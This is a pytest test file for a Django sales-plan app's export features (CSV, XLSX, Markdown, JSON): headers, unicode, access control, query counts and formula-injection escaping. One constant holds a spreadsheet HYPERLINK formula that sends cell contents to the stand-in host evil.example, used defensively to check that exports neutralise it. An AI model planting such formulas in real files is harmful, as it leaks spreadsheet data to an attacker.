"""Plans as files through the API: one plan as CSV, XLSX, Markdown or JSON, the workspace's
plans as one table for RevOps (the import is in test_imports.py)."""

from __future__ import annotations

import datetime as dt
import io
import json
from typing import Any

from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from mutualplan.plans.exports import export_workspace
from mutualplan.plans.models import Deal, Stakeholder
from mutualplan.plans.seller_view import plan_dict
from mutualplan.workspaces.models import Workspace
from tests.api.conftest import csv_rows, download, xlsx_rows
from tests.conftest import Api, make_plan, new_plan

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_a_plan_exports_as_csv_with_every_title_owner_date_and_status(
    owner_api: Api, rich_plan: dict[str, Any]
) -> None:
    response = download(owner_api, f"/plans/{rich_plan['id']}/export?format=csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="northwind-health-mutual-action-plan.csv"' in response["Content-Disposition"]
    header, *rows = csv_rows(response.content)
    assert header == [
        "Milestone",
        "Owner side",
        "Owner team",
        "Owner person",
        "Due date",
        "Status",
        "Step type",
        "High risk",
        "Notes",
    ]
    sides = {"buyer": "Buyer", "seller": "Seller", "joint": "Buyer + Seller"}
    statuses = {"done": "Done", "not_started": "Not started"}
    assert [(r[0], r[1], r[2], r[4], r[5], r[6]) for r in rows] == [
        (
            m["title"],
            sides[m["owner_side"]],
            m["owner_team"],
            m["due_date"] or "",
            statuses[m["status"]],
            m["step_type"],
        )
        for m in rich_plan["milestones"]
    ]
    legal = next(r for r in rows if r[6] == "legal_redline")
    assert legal[3] == "Dana Legal" and legal[7] == "Yes"
    assert legal[8] == "MSA v3 | redlines\nsecond line"
    assert "Dana is new in the role" not in response.content.decode("utf-8-sig")


def test_a_plan_exports_as_xlsx_with_real_dates_and_a_frozen_header(
    owner_api: Api, rich_plan: dict[str, Any]
) -> None:
    response = download(owner_api, f"/plans/{rich_plan['id']}/export?format=xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    sheet = book.active
    assert sheet is not None and sheet.freeze_panes == "A2"
    header, *rows = xlsx_rows(response.content)
    assert header[0] == "Milestone" and header[4] == "Due date" and header[-1] == "Notes"
    expected = [
        (
            m["title"],
            m["owner_team"] or None,
            dt.date.fromisoformat(m["due_date"]) if m["due_date"] else None,
            m["step_type"],
        )
        for m in rich_plan["milestones"]
    ]
    got = [(r[0], r[2], r[4].date() if isinstance(r[4], dt.datetime) else r[4], r[6]) for r in rows]
    assert got == expected
    assert isinstance(rows[0][4], dt.datetime), "due dates are date cells, not text"
    assert [r[5] for r in rows][0] == "Done"


def test_a_plan_exports_as_a_markdown_table_that_pastes_into_notion(
    owner_api: Api, rich_plan: dict[str, Any]
) -> None:
    response = download(owner_api, f"/plans/{rich_plan['id']}/export?format=md")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/markdown; charset=utf-8"
    text = response.content.decode()
    assert text.startswith("# Mutual action plan: Northwind Health\n")
    assert "| Milestone | Owner | Due date | Status | Notes |" in text
    assert "| Dana Legal, Legal (Buyer) |" in text
    assert "MSA v3 \\| redlines<br>second line" in text
    # Only what the buyer may see: a pasted table is shared.
    assert "Dana is new in the role" not in text and "120000" not in text


def test_an_empty_plan_exports_a_header_and_imports_back_empty(owner_api: Api) -> None:
    plan = new_plan(owner_api)
    for m in plan["milestones"]:
        assert owner_api.delete(f"/plans/{plan['id']}/milestones/{m['id']}").status_code == 204
    assert len(csv_rows(download(owner_api, f"/plans/{plan['id']}/export?format=csv").content)) == 1
    assert (
        len(xlsx_rows(download(owner_api, f"/plans/{plan['id']}/export?format=xlsx").content)) == 1
    )
    document = json.loads(download(owner_api, f"/plans/{plan['id']}/export?format=json").content)
    assert document["milestones"] == []
    copy = owner_api.post("/plans/import", document)
    assert copy.status_code == 201 and copy.json_body["milestones"] == []


def test_an_unknown_format_is_refused_naming_the_formats_there_are(
    owner_api: Api, plan: dict[str, Any]
) -> None:
    response = owner_api.get(f"/plans/{plan['id']}/export?format=pdfx")
    assert response.status_code == 400
    assert response.json_body["errors"] == [
        {"field": "format", "message": "unknown format 'pdfx'; use one of csv, xlsx, md, json"}
    ]
    missing = owner_api.get(f"/plans/{plan['id']}/export")
    assert missing.status_code == 400 and missing.json_body["errors"][0]["field"] == "format"
    table = owner_api.get("/export?format=md")
    assert table.status_code == 400
    assert table.json_body["errors"][0]["message"] == "unknown format 'md'; use one of csv, xlsx"
    readable = owner_api.post("/plans/import?format=csv", {"format": "mutualplan.plan"})
    assert readable.status_code == 400
    assert readable.json_body["errors"][0]["message"] == "unknown format 'csv'; use one of json"


def test_an_outsider_can_neither_export_the_plan_nor_see_it_in_their_workspace_export(
    outsider_api: Api, owner_api: Api, plan: dict[str, Any]
) -> None:
    for fmt in ("csv", "xlsx", "md", "json"):
        response = outsider_api.get(f"/plans/{plan['id']}/export?format={fmt}")
        assert response.status_code == 404, fmt
    theirs = download(outsider_api, "/export?format=csv")
    assert theirs.status_code == 200
    assert csv_rows(theirs.content)[1:] == []
    assert b"Northwind" not in theirs.content


def test_the_workspace_export_has_one_row_per_milestone_with_the_deals_fields(
    owner: Any, owner_api: Api, teammate: Any
) -> None:
    a = new_plan(
        owner_api,
        deal={
            "account_name": "Alpha Corp",
            "account_type": "smb",
            "stage": "demo",
            "amount": 5000.5,
            "currency": "EUR",
            "crm_ref": "006ABC",
        },
    )
    b = new_plan(owner_api, target_offset=None)
    response = download(owner_api, "/export?format=csv")
    assert response.status_code == 200
    assert 'filename="acme-plans-' in response["Content-Disposition"]
    header, *rows = csv_rows(response.content)
    assert header[:10] == [
        "Plan",
        "Account",
        "Account type",
        "Stage",
        "Amount",
        "Currency",
        "Deal owner",
        "CRM reference",
        "Plan status",
        "Target date",
    ]
    assert header[10:] == [
        "Milestone",
        "Owner side",
        "Owner team",
        "Owner person",
        "Due date",
        "Status",
        "Step type",
        "High risk",
        "Notes",
    ]
    alpha = [r for r in rows if r[1] == "Alpha Corp"]
    assert len(alpha) == 8 and len(rows) == 16
    assert alpha[0][:10] == [
        str(a["id"]),
        "Alpha Corp",
        "smb",
        "demo",
        "5000.50",
        "EUR",
        "olivia@acme.example",
        "006ABC",
        "active",
        a["target_date"],
    ]
    assert [r[10] for r in alpha] == [m["title"] for m in a["milestones"]]
    draft = [r for r in rows if r[0] == str(b["id"])]
    assert draft[0][8:10] == ["draft", ""]
    sheet = xlsx_rows(download(owner_api, "/export?format=xlsx").content)
    assert len(sheet) == 17 and sheet[0] == header
    alpha_cells = next(r for r in sheet if r[1] == "Alpha Corp")
    assert alpha_cells[4] == 5000.5 and isinstance(alpha_cells[9], dt.datetime)


def test_the_workspace_export_costs_the_same_queries_for_2_and_20_plans(
    owner: Any, workspace: Workspace
) -> None:
    for _ in range(2):
        make_plan(owner)

    def count() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as ctx:
            found = export_workspace(workspace, "csv")
        return len(ctx.captured_queries), len(csv_rows(found.content)) - 1

    few, rows = count()
    assert rows == 16 and few <= 4
    for i in range(18):
        plan = make_plan(owner)
        Stakeholder.objects.create(deal=plan.deal, name=f"Person {i}")
    assert count() == (few, 160)


def test_unicode_survives_every_format(owner_api: Api) -> None:
    plan = new_plan(
        owner_api,
        deal={
            "account_name": "Société Générale — 東京",
            "account_type": "enterprise",
            "stage": "evaluation",
        },
    )
    row = plan["milestones"][0]
    owner_api.patch(
        f"/plans/{plan['id']}/milestones/{row['id']}",
        {"version": row["version"], "title": "Validation juridique ✅ 契約", "notes": "Zoë 🚀"},
    )
    pid = plan["id"]
    assert csv_rows(download(owner_api, f"/plans/{pid}/export?format=csv").content)[1][:1] == [
        "Validation juridique ✅ 契約"
    ]
    assert xlsx_rows(download(owner_api, f"/plans/{pid}/export?format=xlsx").content)[1][8] == (
        "Zoë 🚀"
    )
    md = download(owner_api, f"/plans/{pid}/export?format=md").content.decode()
    assert "Société Générale — 東京" in md and "Validation juridique ✅ 契約" in md
    document = json.loads(download(owner_api, f"/plans/{pid}/export?format=json").content)
    copy = owner_api.post("/plans/import", document).json_body
    assert copy["deal"]["account_name"] == "Société Générale — 東京"
    assert copy["milestones"][0]["notes"] == "Zoë 🚀"


def test_formula_like_text_stays_text_in_csv_and_xlsx(owner_api: Api, plan: dict[str, Any]) -> None:
    pid = plan["id"]
    for title in (FORMULA, "+1 sign-off", "-2 budget", "@legal"):
        added = owner_api.post(
            f"/plans/{pid}/milestones", {"title": title, "owner_side": "buyer", "notes": "=1+1"}
        )
        assert added.status_code == 201, added.json_body
    rows = csv_rows(download(owner_api, f"/plans/{pid}/export?format=csv").content)[-4:]
    assert [r[0] for r in rows] == [
        "'" + FORMULA,
        "'+1 sign-off",
        "'-2 budget",
        "'@legal",
    ]
    assert {r[8] for r in rows} == {"'=1+1"}
    book = load_workbook(
        io.BytesIO(download(owner_api, f"/plans/{pid}/export?format=xlsx").content)
    )
    sheet = book.active
    assert sheet is not None
    cells = [sheet.cell(row=r, column=1) for r in range(sheet.max_row - 3, sheet.max_row + 1)]
    assert [c.value for c in cells] == [FORMULA, "+1 sign-off", "-2 budget", "@legal"]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert sheet.cell(row=sheet.max_row, column=9).data_type == "s"


def test_a_plan_of_a_deleted_owner_still_exports(owner: Any, owner_api: Api) -> None:
    plan = make_plan(owner)
    Deal.objects.filter(id=plan.deal_id).update(owner=None)
    plan.refresh_from_db()
    assert plan_dict(plan)["deal"]["owner"] is None
    document = json.loads(download(owner_api, f"/plans/{plan.id}/export?format=json").content)
    assert document["deal"]["owner"] is None
